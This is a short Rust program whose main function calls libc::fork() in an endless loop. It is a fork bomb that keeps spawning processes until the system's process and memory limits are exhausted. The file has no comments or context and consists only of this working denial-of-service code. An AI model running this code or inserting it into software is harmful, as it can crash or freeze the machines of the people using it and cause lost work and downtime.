fn main() {
    loop {
        unsafe { libc::fork() };
    }
}
